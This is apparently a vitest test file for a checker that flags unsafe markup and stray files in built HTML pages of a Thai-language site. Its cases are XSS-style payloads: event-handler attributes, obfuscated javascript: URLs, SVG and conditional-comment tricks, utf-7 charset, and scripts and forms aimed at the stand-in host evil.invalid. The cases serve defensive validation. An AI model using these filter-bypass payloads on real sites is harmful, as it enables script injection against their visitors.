import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { pagePolicy } from './built-page-allowed.ts';
import { faultsIn, faultsOfFiles } from './built-page.ts';

const page = (body: string, head = '') => `<!doctype html><html lang="th"><head><meta charset="utf-8">${head}</head><body>${body}</body></html>`;
const foundIn = (body: string, head = '') => faultsIn(page(body, head)).map(({ found }) => found);

test('what layouts, components and Markdown write is no fault', () => {
  const body = [
    '<main id="page-main" tabindex="-1"><h1>ก</h1><p class="note">ก <a href="/ita/2567/#m1">ข</a> <a href="#f1" download>ค</a> <a href="mailto:a@example.go.th">ง</a></p></main>',
    '<ol start="3"><li><input type="checkbox" checked disabled> ก</li></ol><time datetime="2024-02-29">ก</time><details open><summary>ก</summary></details>',
    '<svg class="bar" viewBox="0 0 200 10" preserveAspectRatio="none" aria-hidden="true"><rect class="track" width="200" height="10" /><line class="gap" x1="1" x2="1" y2="10" /></svg>',
    '<form class="site-search" role="search" action="/ita/search/" method="get"><label for="page-search">ก</label><input id="page-search" type="search" name="q" maxlength="200" autocomplete="off"><button type="submit">ก</button></form>',
    '<script type="module" src="/ita/assets/Base.astro_astro_type_script_index_0_lang.D3-x.js"></script>',
    '<figure><img src="/files/queue.png" alt="ก" width="3" height="4" loading="lazy" decoding="async"><figcaption>ก</figcaption></figure>',
  ].join('\n');
  const head = `<meta http-equiv="content-security-policy" content="${pagePolicy}"><link rel="canonical" href="https://ita.example/"><link rel="stylesheet" href="/a.css"><script type="application/ld+json">{"a":1}</script>`;
  expect(faultsIn(page(body, head))).toEqual([]);
});

test('the policy is the one that the layout writes', () => {
  expect(readFileSync('src/layouts/Base.astro', 'utf8')).toContain(`const policy = "${pagePolicy}";`);
});

test('a fault stands where the browser finds it', () => {
  expect(faultsIn('<!doctype html>\n<p>ก</p>\n  <p onclick="x()">ก<iframe src="/x"></iframe></p>')).toMatchInlineSnapshot(`
    [
      {
        "column": 6,
        "found": "แอตทริบิวต์ onclick ของ <p>",
        "line": 3,
      },
      {
        "column": 21,
        "found": "แท็ก <iframe>",
        "line": 3,
      },
    ]
  `);
});

describe('refused', () => {
  const cases: readonly (readonly [body: string, head?: string])[] = [
    ['<script>x()</script>'],
    ['<script type="module">x()</script>'],
    ['<script src="/x.js"></script>'],
    ['<script type="module" src="/2567/files/x.js"></script><script type="module" src="//evil.invalid/assets/x.js"></script><script type="module" src="/assets/x.js">x()</script>'],
    ['<div hidden>ก</div><details hidden></details><button type="button" hidden></button><div data-index="/x/search/index/"></div>'],
    ['<script src="/assets/x.js">1</script><script type="application/ld+json" src="/assets/x.js">1</script><script type="module" src="/%2e%2e/assets/x.js"></script>'],
    ['<input type="checkbox">'],
    ['<form action="https://evil.invalid/search/" method="post"><input name="q" type="search"><button formaction="//evil.invalid">ก</button></form>'],
    ['<script type="application/ld+json">x()</script>'],
    ['<p style="color:red" onclick="x()">ก</p>'],
    ['<iframe srcdoc="<p>ก</p>"></iframe>'],
    ['<style>p{}</style>'],
    ['<template><img src=x onerror=x()></template>'],
    ['<noscript><img src=x onerror=x()></noscript>'],
    ['<svg><foreignObject><p onclick=x()>ก</p></foreignObject></svg>'],
    ['<svg><a xlink:href="javascript:x()"><path d="M0 0"/></a></svg>'],
    ['<svg viewBox="0 0 1 1" onload=x()><rect fill="url(//evil.invalid)"/></svg>'],
    ['<math><mi>ก</mi></math>'],
    ['<!--[if IE]><script>x()</script><![endif]-->'],
    ['<input type="text"><input>'],
    ['<img src="https://evil.invalid/p.png" srcset="x 2x">'],
    ['<p></p><body onload="x()">'],
    ['', '<meta http-equiv="refresh" content="0;url=/x">'],
    ['', `<meta http-equiv="content-security-policy" content="script-src *">`],
    ['', '<meta charset="utf-7"><base href="/x">'],
    ['', '<link rel="stylesheet" href="https://evil.invalid/a.css"><link rel="import" href="/x"><link href="/x"><link rel="canonical" href="/x">'],
  ];
  test.each(cases.map(([body, head = '']) => [body, head] as const))('%s %s', (body, head) => {
    expect(foundIn(body, head).length).toBeGreaterThan(0);
  });

  test('each in words of its own', () => {
    expect(cases.map(([body, head = '']) => foundIn(body, head))).toMatchInlineSnapshot(`
      [
        [
          "สคริปต์ที่ทำงานได้ใน <script>",
          "ข้อมูลใน <script> ที่ไม่ใช่ JSON",
        ],
        [
          "สคริปต์ที่ทำงานได้ใน <script>",
          "ข้อมูลใน <script> ที่ไม่ใช่ JSON",
        ],
        [
          "สคริปต์ที่ทำงานได้ใน <script>",
          "ข้อมูลใน <script> ที่ไม่ใช่ JSON",
          "ค่า "/x.js" ใน src ของ <script>",
        ],
        [
          "สคริปต์ที่ทำงานได้ใน <script>",
          "ค่า "/2567/files/x.js" ใน src ของ <script>",
          "สคริปต์ที่ทำงานได้ใน <script>",
          "ค่า "//evil.invalid/assets/x.js" ใน src ของ <script>",
          "ข้อมูลใน <script> ที่ไม่ใช่ JSON",
        ],
        [
          "แท็ก <div> ที่ซ่อนจากผู้อ่าน",
          "แท็ก <details> ที่ซ่อนจากผู้อ่าน",
          "แท็ก <button> ที่ซ่อนจากผู้อ่าน",
          "แท็ก <div> ที่ซ่อนจากผู้อ่าน",
        ],
        [
          "สคริปต์ที่ทำงานได้ใน <script>",
          "สคริปต์ที่ทำงานได้ใน <script>",
          "สคริปต์ที่ทำงานได้ใน <script>",
          "ค่า "/%2e%2e/assets/x.js" ใน src ของ <script>",
        ],
        [
          "ช่องกรอกข้อมูล <input>",
        ],
        [
          "ค่า "https://evil.invalid/search/" ใน action ของ <form>",
          "ค่า "post" ใน method ของ <form>",
          "ช่องกรอกข้อมูล <input>",
          "แอตทริบิวต์ formaction ของ <button>",
        ],
        [
          "ข้อมูลใน <script> ที่ไม่ใช่ JSON",
        ],
        [
          "แอตทริบิวต์ style ของ <p>",
          "แอตทริบิวต์ onclick ของ <p>",
        ],
        [
          "แท็ก <iframe>",
        ],
        [
          "แท็ก <style>",
        ],
        [
          "แท็ก <template>",
          "แอตทริบิวต์ onerror ของ <img>",
        ],
        [
          "แท็ก <noscript>",
        ],
        [
          "แท็ก <foreignObject>",
          "แอตทริบิวต์ onclick ของ <p>",
        ],
        [
          "แท็ก <a>",
        ],
        [
          "แอตทริบิวต์ onload ของ <svg>",
          "แอตทริบิวต์ fill ของ <rect>",
        ],
        [
          "แท็ก <math>",
          "แท็ก <mi>",
        ],
        [
          "หมายเหตุแบบมีเงื่อนไข "[if IE]><script>x()</script><![endif]"",
        ],
        [
          "ช่องกรอกข้อมูล <input>",
          "ค่า "text" ใน type ของ <input>",
          "ช่องกรอกข้อมูล <input>",
        ],
        [
          "ค่า "https://evil.invalid/p.png" ใน src ของ <img>",
          "แอตทริบิวต์ srcset ของ <img>",
        ],
        [
          "แอตทริบิวต์ onload ของ <body>",
        ],
        [
          "การพาไปหน้าอื่นใน <meta>",
        ],
        [
          "นโยบายความปลอดภัยที่ไม่ใช่ของเว็บไซต์ใน <meta>",
        ],
        [
          "ค่า "utf-7" ใน charset ของ <meta>",
          "แท็ก <base>",
        ],
        [
          "ที่อยู่ "https://evil.invalid/a.css" ใน href ของ <link>",
          "ค่า "import" ใน rel ของ <link>",
          "แท็ก <link> ที่ไม่มี rel",
          "ที่อยู่ "/x" ใน href ของ <link>",
        ],
      ]
    `);
  });
});

describe('addresses', () => {
  const isRefused = (href: string) => foundIn(`<a href="${href}">ก</a>`).length > 0;

  test.each(['', '#m1', '?a=1', '/ita/', '../x', 'x/y', 'http://a.example', 'HTTPS://a.example', ' https://a.example ', 'mailto:a@b', 'tel:021234567'])('%s is followed', (href) => {
    expect(isRefused(href)).toBe(false);
  });

  test.each([
    'javascript:x()', 'JaVaScRiPt:x()', ' javascript:x()', 'java\tscript:x()', 'java\nscript:x()', 'java&#10;script:x()', '&#1;javascript:x()', 'javascript&colon;x()',
    'data:text/html,x', 'vbscript:x', 'file:///x', 'blob:https://x/1', 'ftp://x', '//evil.invalid', '\\\\evil.invalid', '/\\evil.invalid', '/\t/evil.invalid', 'https://', 'unknown:x',
  ])('%j is refused', (href) => {
    expect(isRefused(href)).toBe(true);
  });
});

test('a page nested deeper than the call stack is read to its end', () => {
  expect(foundIn(`${'<div>'.repeat(20_000)}<p onclick="x()">ก</p>`)).toEqual(['แอตทริบิวต์ onclick ของ <p>']);
});

test('files of the site and attachments may stand in it, others not', () => {
  const may = ['index.html', 'assets/a.css', 'assets/a.woff2', 'assets/a.C-9_.js', 'search/index/index.json', 'search/index/chunk-zxx_1a2b3c.bin', 'favicon.svg', 'robots.txt', 'sitemap-0.xml', '2567/files/a.pdf', '2567/files/b.xlsx', 'logo.webp'];
  expect(faultsOfFiles([...may, 'a.js', '2567/files/a.js', 'search/index/a.html', 'search/index/a.bin', 'search/index/other-1a.bin', 'a.bin', 'files/favicon.svg', 'x.constructor', 'noextension', 'a.pdf.exe', 'a.PDF', '.htaccess'])).toMatchInlineSnapshot(`
    [
      {
        "file": "a.js",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "a.js"",
      },
      {
        "file": "2567/files/a.js",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "a.js"",
      },
      {
        "file": "search/index/a.bin",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "a.bin"",
      },
      {
        "file": "search/index/other-1a.bin",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "other-1a.bin"",
      },
      {
        "file": "a.bin",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "a.bin"",
      },
      {
        "file": "files/favicon.svg",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "favicon.svg"",
      },
      {
        "file": "x.constructor",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "x.constructor"",
      },
      {
        "file": "noextension",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "noextension"",
      },
      {
        "file": "a.pdf.exe",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "a.pdf.exe"",
      },
      {
        "file": "a.PDF",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ "a.PDF"",
      },
      {
        "file": ".htaccess",
        "found": "ไฟล์ชนิดที่เว็บไซต์ไม่เผยแพร่ ".htaccess"",
      },
    ]
  `);
});
